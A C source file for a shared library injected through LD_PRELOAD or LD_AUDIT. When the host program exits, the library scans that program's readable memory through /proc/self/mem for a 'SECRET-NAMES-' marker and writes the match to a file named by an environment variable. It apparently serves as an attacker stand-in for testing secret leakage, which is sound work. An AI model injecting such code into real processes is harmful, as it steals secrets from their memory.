/* A library that is loaded into the app by LD_PRELOAD or LD_AUDIT. When the app ends it looks through
 * the app's memory for the needle, and writes what it found into a file. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* What makes it a library for LD_AUDIT. */
unsigned int la_version(unsigned int version) { return version; }

static char place[256], needle[128];

__attribute__((constructor)) static void begin(void) {
  const char *said = getenv("ATTACK_PLACE"), *wanted = getenv("ATTACK_NEEDLE");
  if (said != NULL && wanted != NULL) {
    snprintf(place, sizeof place, "%s", said);
    snprintf(needle, sizeof needle, "%s", wanted);
  }
}

__attribute__((destructor)) static void end(void) {
  char line[512];
  int memory = open("/proc/self/mem", O_RDONLY);
  FILE *maps = fopen("/proc/self/maps", "r");
  while (memory >= 0 && maps != NULL && needle[0] && fgets(line, sizeof line, maps) != NULL) {
    unsigned long start, stop;
    char rights[8];
    if (sscanf(line, "%lx-%lx %7s", &start, &stop, rights) != 3 || rights[0] != 'r') continue;
    if (strstr(line, "[stack]") != NULL || strstr(line, "preload") != NULL) continue;
    char *copy = malloc(stop - start);
    ssize_t got = copy == NULL ? -1 : pread(memory, copy, stop - start, (off_t)start);
    if (got > 0) {
      char *found = memmem(copy, (size_t)got, "SECRET-NAMES-", 13);
      if (found != NULL) {
        FILE *file = fopen(place, "w");
        if (file != NULL) {
          fprintf(file, "%.40s\n", found);
          fclose(file);
        }
        _exit(0);
      }
    }
    free(copy);
  }
}
